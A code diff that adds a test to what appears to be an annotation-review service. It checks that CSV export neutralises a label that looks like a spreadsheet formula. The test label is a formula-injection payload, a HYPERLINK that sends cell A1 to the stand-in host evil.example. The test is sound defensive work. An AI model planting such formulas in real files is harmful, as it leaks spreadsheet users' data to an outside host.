@@ -88,6 +88,25 @@ def test_csv_and_feedback(client, session, org):
     assert lines[0]["text"].startswith("Gezicht op Paramaribo")
 
 
+def test_csv_keeps_a_label_that_looks_like_a_formula_as_text(client, session, org):
+    seed(session, org)
+    formula = '=HYPERLINK("https://evil.example/?"&A1;"klik")'
+    batch = client.get("/review/next?size=2&order=record", headers=org.headers()).json()["items"]
+    decided = [
+        {
+            "id": batch[0]["id"],
+            "status": "edited",
+            "label": formula,
+            "authority_uri": "https://sws.geonames.org/3383330/",
+        },
+        {"id": batch[1]["id"], "status": "edited", "label": "-", "authority_uri": "https://sws.geonames.org/3383330/"},
+    ]
+    assert client.post("/review/decisions", headers=org.headers(), json={"decisions": decided}).status_code == 200
+    rows = list(csv.DictReader(io.StringIO(client.get("/annotations?format=csv", headers=org.headers()).text)))
+    assert sorted(r["label"] for r in rows) == ["'-", "'" + formula]  # a spreadsheet shows it, does not run it
+    assert {r["authority_uri"] for r in rows} == {"https://sws.geonames.org/3383330/"}  # other cells as they were
+
+
 def test_round_trip_into_another_store(client, session, org, other_org):
     seed(session, org)
     seed(session, other_org)
